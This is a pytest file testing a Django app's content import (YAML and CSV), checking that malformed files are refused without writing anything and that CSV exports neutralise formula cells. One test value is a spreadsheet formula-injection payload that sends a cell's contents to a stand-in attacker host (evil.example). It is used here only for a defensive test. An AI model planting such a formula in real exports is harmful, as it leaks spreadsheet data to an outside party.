"""Each import surprise of issue 13, item 7: refused with file: location: field, nothing written.

The tests run on PostgreSQL (scripts/test.sh), where a NUL character fails the
INSERT that SQLite takes, so "nothing changed" is checked on the database that
refuses.
"""

import csv
import io
import textwrap

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from enablement.models import (
    TEXT_LIMITS,
    Choice,
    Methodology,
    Module,
    Question,
    Topic,
)
from enablement.services.content_export import content_dump, content_export
from enablement.services.content_format import MAX_FILE_BYTES, ContentImportError
from enablement.services.content_import import content_import
from tests.factories.admin_forms import question_change_form
from tests.factories.enablement import QuestionFactory

pytestmark = pytest.mark.django_db

BASE = textwrap.dedent(
    """\
    methodologies:
      - key: meddicc
        name: MEDDICC
        description: Qualification framework.
    topics:
      - key: economic-buyer
        name: Economic buyer
        description: Who owns the budget.
    modules:
      - key: meddicc-101
        methodology: meddicc
        name: Foundations
        position: 3
        description: The first module.
    questions:
      - key: eb-1
        module: meddicc-101
        topic: economic-buyer
        type: multiple_choice
        status: published
        stem: Who can sign at Globex?
        explanation: The economic buyer and their delegate.
        reference_url: https://playbook.example.com/eb
        choices:
          - {text: The CFO, correct: true}
          - {text: The CFO's delegate, correct: true}
          - {text: The IT admin, correct: false, feedback: Not a buyer.}
    """
)


def snapshot():
    """Everything an import could change, to compare before and after."""
    return [
        list(model.objects.order_by("pk").values())
        for model in (Methodology, Topic, Module, Question, Choice)
    ]


@pytest.fixture
def stored(organization):
    content_import(organization=organization, name="base.yaml", text=BASE)
    return snapshot()


def refused(organization, name, text) -> list[str]:
    """Import a bad file; return its errors after checking nothing was written."""
    before = snapshot()
    with pytest.raises(ContentImportError) as exc:
        content_import(organization=organization, name=name, text=text)
    assert snapshot() == before
    for error in exc.value.errors:
        assert error.startswith(f"{name}: ") and error.count(": ") >= 3, error
    return exc.value.errors


# Fields a file does not carry are left as they are.


def test_csv_import_of_a_stored_methodology_keeps_the_descriptions(
    organization, stored
):
    """The CSV has no description columns: re-importing its export changes nothing."""
    text = content_dump(data=content_export(organization=organization), name="x.csv")

    summary = content_import(organization=organization, name="x.csv", text=text)

    assert not summary.changed, summary
    assert Methodology.objects.get().description == "Qualification framework."
    assert Topic.objects.get().description == "Who owns the budget."
    assert Module.objects.get().description == "The first module."
    assert snapshot() == stored


def test_csv_without_optional_columns_keeps_stored_values(organization, stored):
    """Left-out columns (names, position, status, type, URL, explanation) keep their values."""
    text = (
        "methodology,module,topic,key,stem,correct,choice_1,choice_2,choice_3\n"
        "meddicc,meddicc-101,economic-buyer,eb-1,Who can sign at Globex now?,1;2,"
        "The CFO,The CFO's delegate,The IT admin\n"
    )

    summary = content_import(organization=organization, name="few.csv", text=text)

    assert summary.updated["questions"] == 1
    question = Question.objects.get()
    assert question.stem == "Who can sign at Globex now?"
    assert question.status == Question.Status.PUBLISHED
    assert question.kind == Question.Kind.MULTIPLE_CHOICE
    assert question.explanation == "The economic buyer and their delegate."
    assert question.reference_url == "https://playbook.example.com/eb"
    module = Module.objects.get()
    assert (module.name, module.position) == ("Foundations", 3)
    assert Methodology.objects.get().name == "MEDDICC"


def test_yaml_leaving_out_a_description_keeps_it_and_an_empty_one_clears_it(
    organization, stored
):
    """In YAML, a left-out field keeps its value; a field given empty is cleared."""
    without = BASE.replace("    description: Who owns the budget.\n", "")
    content_import(organization=organization, name="a.yaml", text=without)
    assert Topic.objects.get().description == "Who owns the budget."

    cleared = BASE.replace("description: Who owns the budget.", 'description: ""')
    content_import(organization=organization, name="b.yaml", text=cleared)
    assert Topic.objects.get().description == ""


# Duplicate YAML keys.


def test_duplicate_yaml_keys_are_refused_with_both_lines(organization, stored):
    """PyYAML keeps the last of two equal keys; the import names both lines instead."""
    text = BASE.replace(
        "    stem: Who can sign at Globex?\n",
        "    stem: Who can sign at Globex?\n    stem: Who signs?\n",
    )
    line = text.splitlines().index("    stem: Who signs?") + 1

    errors = refused(organization, "dup.yaml", text)

    assert errors == [
        f"dup.yaml: line {line}: (key): key 'stem' appears twice "
        f"(first on line {line - 1})"
    ]


def test_duplicate_keys_in_a_flow_mapping_are_refused(organization, stored):
    text = BASE.replace(
        "{text: The CFO, correct: true}",
        "{text: The CFO, correct: true, correct: false}",
    )
    errors = refused(organization, "flow.yaml", text)
    assert len(errors) == 1 and "key 'correct' appears twice" in errors[0]


# Unknown CSV columns and YAML fields.


def test_unknown_csv_columns_are_refused(organization, stored):
    """choice_7 and a misspelt column are refused, not dropped."""
    text = (
        "methodology,module,topic,key,stem,explanaton,correct,choice_1,choice_2,"
        "choice_7\n"
        "meddicc,meddicc-101,economic-buyer,eb-1,Stem?,Why.,1,Yes,No,Maybe\n"
    )
    errors = refused(organization, "cols.csv", text)
    assert errors == [
        "cols.csv: row 1: explanaton: unknown column; did you mean explanation? "
        "the columns are in enablement/content/FORMAT.md",
        "cols.csv: row 1: choice_7: unknown column; a question has at most 6 choices",
    ]


def test_a_row_with_more_cells_than_columns_is_refused(organization, stored):
    text = (
        "methodology,module,topic,key,stem,explanation,correct,choice_1,choice_2\n"
        "meddicc,meddicc-101,economic-buyer,eb-1,Stem?,Why.,1,Yes,No,Lost cell\n"
    )
    errors = refused(organization, "wide.csv", text)
    assert errors == [
        "wide.csv: row 2: (row): has 10 cells but the header names 9 columns"
    ]


def test_unknown_yaml_fields_are_refused(organization, stored):
    """A misspelt field would otherwise be ignored (and the stored value kept)."""
    text = BASE.replace("    explanation: ", "    explaination: ")
    errors = refused(organization, "typo.yaml", text)
    assert len(errors) == 1
    assert errors[0].startswith(
        "typo.yaml: questions[0] (line 16): explaination: unknown field; the fields are"
    )


# Wrong types.


def test_an_unquoted_boolean_text_gives_one_error_saying_to_quote_it(
    organization, stored
):
    """`text: True` and `text: No` load as booleans: one error each, with the quoting fix."""
    text = BASE.replace("{text: The CFO, correct: true}", "{text: True, correct: true}")
    text = text.replace("{text: The IT admin,", "{text: No,")

    errors = refused(organization, "bool.yaml", text)

    assert errors == [
        "bool.yaml: questions[0] (line 16): choices[0].text: is true/false, not text; "
        'write it in quotes: text: "True"',
        "bool.yaml: questions[0] (line 16): choices[2].text: is true/false, not text; "
        'write it in quotes: text: "No"',
    ]


def test_numbers_and_dates_where_text_belongs_say_to_quote_them(organization):
    text = BASE.replace("name: MEDDICC", "name: 2024").replace(
        "stem: Who can sign at Globex?", "stem: 2026-01-31"
    )
    errors = refused(organization, "num.yaml", text)
    assert (
        "num.yaml: methodologies[0] (line 2): name: is a number, not text; "
        'write it in quotes: name: "2024"' in errors
    )
    assert (
        "num.yaml: questions[0] (line 16): stem: is a date, not text; "
        'write it in quotes: stem: "2026-01-31"' in errors
    )


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "stem: Who can sign at Globex?",
            "stem: [Who can sign, at Globex]",
            "questions[0] (line 16): stem: is a list; write one text here",
        ),
        (
            "module: meddicc-101\n    topic",
            "module: [meddicc-101]\n    topic",
            "questions[0] (line 16): module: must be the key of one of the modules",
        ),
        (
            "key: eb-1",
            "key: [eb-1]",
            "questions[0] (line 16): key: is a list; write one text here",
        ),
        (
            "feedback: Not a buyer.}",
            "feedback: [A user]}",
            "questions[0] (line 16): choices[2].feedback: is a list; write one text here",
        ),
        (
            "reference_url: https://playbook.example.com/eb",
            "reference_url: {url: x}",
            "questions[0] (line 16): reference_url: is a mapping; write one text here "
            "(check the indentation)",
        ),
        (
            "    choices:\n      - {text: The CFO, correct: true}\n"
            "      - {text: The CFO's delegate, correct: true}\n"
            "      - {text: The IT admin, correct: false, feedback: Not a buyer.}\n",
            "    choices: {text: The CFO, correct: true}\n",
            "questions[0] (line 16): choices: must be a list of choices (each '- text: ...')",
        ),
        (
            "position: 3",
            "position: 99999",
            "modules[0] (line 10): position: must be a whole number from 0 to 32767",
        ),
        (
            "correct: true}\n      - {text: The CFO's",
            'correct: "yes"}\n      - {text: The CFO\'s',
            "questions[0] (line 16): choices[0].correct: must be true or false, unquoted",
        ),
    ],
)
def test_wrong_types_are_refused_without_a_crash(
    organization, stored, old, new, expected
):
    """A list or mapping where text belongs, a mapping for a list: a message, no TypeError."""
    assert old in BASE
    errors = refused(organization, "types.yaml", BASE.replace(old, new))
    assert f"types.yaml: {expected}" in errors


def test_a_mapping_where_a_section_list_belongs_is_refused(organization):
    errors = refused(organization, "sec.yaml", "questions:\n  key: eb-1\n")
    assert errors == [
        "sec.yaml: questions: (section): must be a list of items (each '- key: ...')"
    ]


# Encodings and NUL characters.


def test_non_utf8_file_is_refused_by_the_command_without_a_traceback(
    organization, tmp_path, capsys
):
    """A Latin-1 file gives one line naming file, line and byte; the command fails cleanly."""
    path = tmp_path / "latin1.yaml"
    path.write_bytes(BASE.replace("Globex", "Glöbex").encode("latin-1"))
    before = snapshot()

    with pytest.raises(CommandError, match="Some files were rejected"):
        call_command("import_content", str(path))

    err = capsys.readouterr().err
    assert f"{path}: line 21: (file): not UTF-8 text (byte 0xf6 at offset" in err, err
    assert "save the file as UTF-8" in err and "Traceback" not in err
    assert snapshot() == before


def test_a_utf8_byte_order_mark_is_accepted(organization, tmp_path):
    """Excel writes "CSV UTF-8" with a byte-order mark; its first column still counts."""
    path = tmp_path / "bom.csv"
    path.write_bytes(
        b"\xef\xbb\xbfmethodology,module,topic,key,stem,explanation,correct,"
        b"choice_1,choice_2\nm,mod,t,q-1,Stem?,Why.,1,Yes,No\n"
    )
    call_command("import_content", str(path))
    assert Question.objects.get().key == "q-1"


def test_nul_characters_are_refused_before_postgresql(organization, stored):
    """A NUL passes SQLite and fails PostgreSQL's INSERT: refused, with where it is."""
    raw_yaml = BASE.replace("Who can sign at Globex?", "Who can sign\x00 at Globex?")
    assert refused(organization, "nul.yaml", raw_yaml) == [
        "nul.yaml: line 21: (text): contains a NUL character (\\x00), which cannot be "
        "stored; remove it"
    ]
    escaped = BASE.replace("stem: Who can sign at Globex?", 'stem: "Who can\\0 sign?"')
    assert refused(organization, "esc.yaml", escaped) == [
        "esc.yaml: questions[0] (line 16): stem: contains a NUL character (\\x00), "
        "which cannot be stored; remove it"
    ]
    csv_text = (
        "methodology,module,topic,key,stem,explanation,correct,choice_1,choice_2\n"
        "meddicc,meddicc-101,economic-buyer,eb-1,Stem?,Why.,1,Yes\x00,No\n"
    )
    assert refused(organization, "nul.csv", csv_text) == [
        "nul.csv: row 2: choices[0].text: contains a NUL character (\\x00), "
        "which cannot be stored; remove it"
    ]


# Sizes.


def test_texts_over_the_documented_limits_are_refused(organization, stored):
    """A stem over TEXT_LIMITS (2,000) and a name over its 120 are refused."""
    limit = TEXT_LIMITS["stem"]
    text = BASE.replace("Who can sign at Globex?", "x" * (limit + 1)).replace(
        "name: Economic buyer", "name: " + "n" * 121
    )
    errors = refused(organization, "long.yaml", text)
    assert errors == [
        "long.yaml: topics[0] (line 6): name: is longer than 120 characters (121)",
        f"long.yaml: questions[0] (line 16): stem: is longer than {limit} characters "
        f"({limit + 1})",
    ]


def test_a_20_mb_stem_is_refused_by_the_file_size_limit(organization, stored):
    text = BASE.replace("Who can sign at Globex?", "x" * 20_000_000)
    errors = refused(organization, "huge.yaml", text)
    assert errors == [
        f"huge.yaml: (file): size: {len(text.encode()):,} bytes is over the limit of "
        "5 MB; split the file"
    ]


def test_model_validation_enforces_the_same_limits_and_nul(organization):
    """Admin saves go through full_clean: over-long texts and NUL are refused there too."""
    question = QuestionFactory(module__methodology__organization=organization)
    question.stem = "x" * (TEXT_LIMITS["stem"] + 1)
    question.explanation = "Because\x00"
    with pytest.raises(ValidationError) as exc:
        question.full_clean()
    assert set(exc.value.message_dict) == {"stem", "explanation"}
    choice = question.choices.first()
    choice.feedback = "f" * (TEXT_LIMITS["feedback"] + 1)
    with pytest.raises(ValidationError, match="at most 1000 characters"):
        choice.full_clean()
    topic = question.topic
    topic.description = "d" * (TEXT_LIMITS["description"] + 1)
    with pytest.raises(ValidationError, match="at most 2000 characters"):
        topic.full_clean()


def test_admin_question_form_refuses_an_over_long_stem(author_client, organization):
    question = QuestionFactory(module__methodology__organization=organization)
    form = question_change_form(question, stem="x" * (TEXT_LIMITS["stem"] + 1))
    url = reverse("admin:enablement_question_change", args=[question.pk])

    response = author_client.post(url, form)

    assert response.status_code == 200
    assert "Write at most 2000 characters (it has 2001)." in response.content.decode()
    question.refresh_from_db()
    assert len(question.stem) < 2000


# CSV exports neutralize formula cells.

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def test_content_csv_export_writes_formulas_inert_and_reads_them_back(
    organization, stored
):
    """A choice starting with = (or + - @) is exported with a leading apostrophe."""
    text = BASE.replace(
        "{text: The IT admin,", "{text: '" + FORMULA.replace("'", "''") + "',"
    )
    text = text.replace("stem: Who can sign at Globex?", "stem: '-1 for the CFO?'")
    content_import(organization=organization, name="f.yaml", text=text)

    exported = content_dump(
        data=content_export(organization=organization), name="f.csv"
    )

    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["choice_3"] == "'" + FORMULA
    assert row["stem"] == "'-1 for the CFO?"
    assert row["module_position"] == "3"  # numbers are written as they are
    # The apostrophe is the export's, not the author's: a re-import changes nothing.
    assert not content_import(
        organization=organization, name="f.csv", text=exported
    ).changed
    assert Choice.objects.get(position=3).text == FORMULA


def test_manager_csv_export_writes_a_formula_choice_inert(client, organization):
    """The misconceptions table carries wrong choice texts into managers' spreadsheets."""
    from reinforcement.models import RepChoiceStat
    from tests.reinforcement.kpi_data import kpi_world

    world = kpi_world(timezone.now())
    text = BASE.replace(
        "{text: The IT admin,", "{text: '" + FORMULA.replace("'", "''") + "',"
    )
    text = text.replace("key: economic-buyer", "key: eb-topic")
    text = text.replace("topic: economic-buyer", "topic: eb-topic")
    content_import(organization=world.organization, name="f.yaml", text=text)
    choice = Choice.objects.get(text=FORMULA)
    RepChoiceStat.objects.create(
        rep=world.rep_a1,
        question=choice.question,
        choice=choice,
        picks=2,
        certain_picks=2,
    )
    client.force_login(world.manager_a)

    response = client.get(reverse("manager:export", args=["misconceptions"]))

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["wrong_choice"] for r in rows] == ["'" + FORMULA]


# The admin import form: 200 with the errors, never a 500.

BAD_FILES = {
    "dup.yaml": BASE.replace("    name: MEDDICC\n", "    name: MEDDICC\n    name: M\n"),
    "bool.yaml": BASE.replace("{text: The CFO,", "{text: True,"),
    "list.yaml": BASE.replace(
        "module: meddicc-101\n    topic", "module: [a]\n    topic"
    ),
    "map.yaml": BASE.replace("key: eb-1", "key: {a: 1}"),
    "choices.yaml": "questions:\n  - key: q\n    choices: {text: x}\n",
    "top.yaml": "- just\n- a list\n",
    "cols.csv": "methodology,module,topic,key,stem,correct,choice_7\nm,mo,t,k,S,1,x\n",
    "nul.csv": "methodology,module,topic,key,stem,correct\nm,mo,t,k,S\x00,1\n",
    "long.yaml": BASE.replace("Who can sign at Globex?", "x" * 2001),
}


@pytest.mark.parametrize("name", sorted(BAD_FILES) + ["latin1.csv", "huge.yaml"])
def test_admin_import_form_lists_the_errors_for_every_bad_file(
    author_client, organization, stored, name
):
    if name == "latin1.csv":
        raw = "methodology,module,topic,key,stem,correct\nm,mo,t,k,Glöbex,1\n".encode(
            "latin-1"
        )
    elif name == "huge.yaml":
        raw = b"#" * (MAX_FILE_BYTES + 1)
    else:
        raw = BAD_FILES[name].encode()

    response = author_client.post(
        reverse("admin:enablement_methodology_import"),
        {"organization": organization.pk, "file": SimpleUploadedFile(name, raw)},
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert f"{name}: " in html
    assert ("nothing was imported" in html) or ("over the limit of 5 MB" in html)
    assert snapshot() == stored
